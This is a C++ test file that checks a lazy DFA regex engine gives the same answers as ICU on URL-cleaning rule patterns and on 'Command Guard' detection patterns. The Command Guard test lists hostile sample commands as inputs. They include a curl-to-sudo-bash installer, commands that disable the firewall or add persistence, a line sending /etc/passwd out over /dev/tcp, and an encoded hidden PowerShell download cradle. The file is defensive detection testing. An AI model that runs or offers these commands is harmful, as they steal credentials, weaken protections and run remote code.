// SPDX-License-Identifier: GPL-3.0-or-later
// Every shipped pattern, compiled as the product compiles it, through the lazy DFA and through ICU
// alone, over a sample of the benchmark corpus and generated hostile texts: wherever the DFA
// answers, it must give ICU's answer, and it must answer most of the time.
#include "core/foundation/LazyDfa.h"
#include "core/foundation/Regex.h"
#include "tests/support/Fixtures.h"

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include <cctype>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <random>
#include <set>
#include <string>
#include <vector>

namespace tessaril::testing {
namespace {

const std::string kBundle = TESSARIL_SOURCE_DIR "/resources/Tessaril_TessarilCore.bundle/";
// The rules engine's and Command Guard's order of magnitude; a comparison where ICU runs out is
// skipped (and counted), since there the two may differ by design.
constexpr std::int32_t kWorkLimit = 200;

std::string corpusPath() {
    const char* shared = std::getenv("TESSARIL_SHARED_DIR");
    return std::string(shared != nullptr ? shared : TESSARIL_SHARED_DIR) + "/bench/urls-200k.txt";
}

struct PatternGroup {
    std::vector<std::string> patterns;
    bool caseInsensitive = true;
};

// The link patterns and the name patterns (anchored as the rules engine anchors them) of both rule files.
bool loadLinkRules(PatternGroup& links, PatternGroup& names) {
    for (const char* file : {"data.min.json", "tessaril-supplementary.json"}) {
        const auto text = readFile(kBundle + file);
        if (text.empty()) return false;
        const auto json = nlohmann::json::parse(text);
        for (const auto& [name, provider] : json.at("providers").items()) {
            links.patterns.push_back(provider.at("urlPattern").get<std::string>());
            for (const char* key : {"exceptions", "rawRules", "redirections"}) {
                for (const auto& pattern : provider.value(key, nlohmann::json::array()))
                    links.patterns.push_back(pattern.get<std::string>());
            }
            for (const char* key : {"rules", "referralMarketing"}) {
                for (const auto& pattern : provider.value(key, nlohmann::json::array()))
                    names.patterns.push_back("^" + pattern.get<std::string>() + "$");
            }
        }
    }
    return true;
}

// Upper-cases about a third of the letters, so that case folding is exercised in both directions.
std::string mixCase(const std::string& text, std::mt19937& random) {
    std::string mixed = text;
    for (char& c : mixed) {
        if (random() % 3 == 0 && std::isalpha(static_cast<unsigned char>(c)))
            c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
    }
    return mixed;
}

// One character dropped, doubled or replaced: the texts a pattern almost matches.
std::string nearMiss(const std::string& text, std::mt19937& random) {
    if (text.empty()) return "x";
    std::string edited = text;
    const auto at = random() % edited.size();
    switch (random() % 3) {
        case 0:
            edited.erase(at, 1);
            break;
        case 1:
            edited.insert(at, 1, edited[at]);
            break;
        default:
            edited[at] = static_cast<char>(0x20 + random() % 95);
            break;
    }
    return edited;
}

// Variants of the first `count` texts; long ones are left out, since ICU's time on them grows with the
// square of their length for the many patterns that start with ".*".
void addHostileVariants(std::vector<std::string>& texts, std::size_t count, std::mt19937& random) {
    for (std::size_t i = 0; i < count; ++i) {
        const std::string original = texts[i];
        if (original.size() > 300) continue;
        texts.push_back(mixCase(original, random));
        texts.push_back(nearMiss(original, random));
        texts.push_back(nearMiss(nearMiss(mixCase(original, random), random), random));
    }
}

// Long runs that make backtracking engines work: repeated labels, separators and parameters.
std::vector<std::string> longRuns() {
    std::vector<std::string> runs;
    auto repeat = [](std::string_view unit, std::size_t times) {
        std::string text;
        for (std::size_t i = 0; i < times; ++i)
            text += unit;
        return text;
    };
    for (const std::size_t n : {5U, 60U, 400U}) {
        runs.push_back("https://" + repeat("a.", n) + "amazon");
        runs.push_back("https://" + repeat("a-", n) + "x.amazon.c");
        runs.push_back("https://www.google." + repeat("co.", n) + "uk/url?q=x");
        runs.push_back("https://x.com/" + repeat("a/", n) + "-/refs/switch?" + repeat("&ref", n));
        runs.push_back("https://example.com/?" + repeat("utm_source=x&", n));
        runs.push_back(repeat("%3F", n) + "utm_" + repeat("_", n));
        runs.push_back("HTTPS://" + repeat("W", n) + ".YOUTUBE.COM/watch?v=" + repeat("x", n));
        runs.push_back(repeat("/ref=", n));
        runs.push_back(repeat("a", n) + "\xC3\xA9" + repeat("b", n));
    }
    return runs;
}

struct Tally {
    std::size_t patterns = 0;
    std::size_t supported = 0;
    std::size_t comparisons = 0;
    std::size_t decided = 0;
    // Searches where ICU ran out of work, and among them those where the DFA found a match: the one
    // difference allowed, and only on hostile text.
    std::size_t icuGaveUp = 0;
    std::size_t foundWhereICUGaveUp = 0;
    std::size_t disagreements = 0;
};

// Each supported pattern keeps one DFA over all texts, as a loaded rule keeps its Regex. Compared
// too: search() of the Regex the product uses, DFA and ICU together.
Tally compareAll(const PatternGroup& group, const std::vector<std::string>& texts) {
    Tally tally;
    for (const auto& pattern : group.patterns) {
        auto icu = Regex::compile(pattern, group.caseInsensitive);
        if (!icu) continue;  // the product drops it too
        ++tally.patterns;
        icu->setWorkLimit(kWorkLimit);
        icu->setFastPathEnabled(false);
        auto product = *Regex::compile(pattern, group.caseInsensitive);
        product.setWorkLimit(kWorkLimit);
        const auto nfa = RegexNfa::parse(pattern, group.caseInsensitive);
        if (!nfa) continue;
        ++tally.supported;
        LazyDfa dfa(nfa);
        for (const auto& text : texts) {
            ++tally.comparisons;
            const bool expected = icu->search(text);
            const bool gaveUp = icu->lastMatchHitLimit();
            const auto answer = dfa.search(text);
            const bool viaRegex = product.search(text);
            if (answer) ++tally.decided;
            if (gaveUp) {
                ++tally.icuGaveUp;
                if (viaRegex != expected) ++tally.foundWhereICUGaveUp;
            } else if ((answer && *answer != expected) || viaRegex != expected) {
                ADD_FAILURE() << "pattern " << pattern << "\ntext " << text << "\nICU " << expected << ", DFA "
                              << (answer ? (*answer ? "match" : "no match") : "undecided") << ", Regex " << viaRegex;
                if (++tally.disagreements >= 5) return tally;
            }
        }
    }
    return tally;
}

void report(const char* what, const Tally& tally) {
    std::cout << what << ": " << tally.supported << " of " << tally.patterns << " patterns supported; " << tally.decided
              << " of " << tally.comparisons << " searches decided by the DFA; ICU gave up on " << tally.icuGaveUp
              << " (the DFA found a match in " << tally.foundWhereICUGaveUp << ")\n";
}

// Most patterns supported and most searches decided; none answered differently.
void expectExactAndMostlyDecided(const Tally& tally) {
    EXPECT_EQ(tally.disagreements, 0u);
    EXPECT_GT(tally.supported * 10, tally.patterns * 9);
    EXPECT_GT(tally.decided * 10, tally.comparisons * 9);
}

// A sample of the corpus: every 100th line; the query parameter names found in them.
struct CorpusSample {
    std::vector<std::string> lines;
    std::vector<std::string> names;
};

const CorpusSample& corpusSample() {
    static const CorpusSample sample = [] {
        CorpusSample result;
        std::ifstream corpus(corpusPath(), std::ios::binary);
        std::set<std::string> names;
        std::string line;
        for (std::size_t number = 0; std::getline(corpus, line); ++number) {
            if (number % 100 != 0) continue;
            result.lines.push_back(line);
            const auto query = line.find('?');
            if (query == std::string::npos) continue;
            for (std::size_t at = query + 1; at <= line.size();) {
                const auto end = std::min(line.find('&', at), line.size());
                const auto item = line.substr(at, end - at);
                names.insert(item.substr(0, item.find('=')));
                at = end + 1;
            }
        }
        result.names.assign(names.begin(), names.end());
        return result;
    }();
    return sample;
}

class LazyDfaDifferentialTest : public ::testing::Test {
protected:
    void SetUp() override {
        if (!loadLinkRules(links_, names_)) GTEST_SKIP() << "shipped rule files not found";
        if (corpusSample().lines.empty()) GTEST_SKIP() << "benchmark corpus not found (set TESSARIL_SHARED_DIR)";
    }
    PatternGroup links_;
    PatternGroup names_;
    std::mt19937 random_{2024};
};

// On links as people copy them, even where ICU runs out of work (a few very long links against
// ".*" patterns) the product's answer stays the same.
TEST_F(LazyDfaDifferentialTest, LinkPatternsOnTheCorpus) {
    auto lines = corpusSample().lines;
    addHostileVariants(lines, lines.size() / 4, random_);
    const Tally tally = compareAll(links_, lines);
    report("link patterns, corpus", tally);
    expectExactAndMostlyDecided(tally);
    EXPECT_EQ(tally.foundWhereICUGaveUp, 0u);
    EXPECT_GT(tally.comparisons, 1000000u);
}

TEST_F(LazyDfaDifferentialTest, LinkPatternsOnLongRuns) {
    const Tally tally = compareAll(links_, longRuns());
    report("link patterns, long runs", tally);
    expectExactAndMostlyDecided(tally);
}

TEST_F(LazyDfaDifferentialTest, NamePatternsOnTheCorpusNames) {
    auto names = corpusSample().names;
    addHostileVariants(names, names.size() / 4, random_);
    for (const char* name : {"", "%3F", "%3Futm", "utm_", "UTM_SOURCE_", "_ga", "ref_", "tag", "p_rd_x"})
        names.emplace_back(name);
    const Tally tally = compareAll(names_, names);
    report("name patterns", tally);
    expectExactAndMostlyDecided(tally);
    EXPECT_EQ(tally.icuGaveUp, 0u);
    EXPECT_GT(tally.comparisons, 1000000u);
}

// Command Guard compiles its patterns case-sensitively, with their own inline flags. Few of them are
// in the subset (most use \b or look-around); those that are must agree on commands and prose.
TEST(LazyDfaCommandGuardDifferential, ShippedPatternsOnCommandTexts) {
    const auto text = readFile(kBundle + "command-guard-rules.json");
    if (text.empty()) GTEST_SKIP() << "shipped Command Guard rules not found";
    PatternGroup group;
    group.caseInsensitive = false;
    const auto json = nlohmann::json::parse(text);
    for (const auto& rule : json.at("rules"))
        group.patterns.push_back(rule.at("pattern").get<std::string>());

    std::vector<std::string> commands = {
        "git log --oneline --graph --decorate --all -n 20",
        "curl -fsSL https://example.com/install.sh | sudo bash",
        "sudo /usr/libexec/ApplicationFirewall/socketfilterfw --setglobalstate off",
        "defaults write com.apple.alf globalstate -int 0",
        "defaults write com.apple.loginwindow LoginHook /tmp/x.sh",
        "cat /etc/passwd > /dev/tcp/10.0.0.1/4444",
        "echo ok > /dev/udp/example.org/53",
        "net.sockets.tcpclient",
        "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        "Thanks for the quick review! Could you have another look before Friday?",
        "__EventFilter CommandLineEventConsumer",
        "launchctl load ~/Library/LaunchAgents/com.example.plist",
    };
    // The Command Guard fuzzer's seeds that are command texts (first byte 0-2, then the text).
    for (const auto& entry : std::filesystem::directory_iterator(TESSARIL_SOURCE_DIR "/fuzz/corpus/command_guard")) {
        const auto seed = readFile(entry.path());
        if (!seed.empty() && static_cast<unsigned char>(seed[0]) <= 2) commands.push_back(seed.substr(1));
    }
    std::mt19937 random(11);
    addHostileVariants(commands, commands.size(), random);

    const Tally tally = compareAll(group, commands);
    report("Command Guard patterns", tally);
    EXPECT_EQ(tally.disagreements, 0u);
    EXPECT_GT(tally.supported, 0u);
    EXPECT_GT(tally.decided, 0u);
}

}  // namespace
}  // namespace tessaril::testing
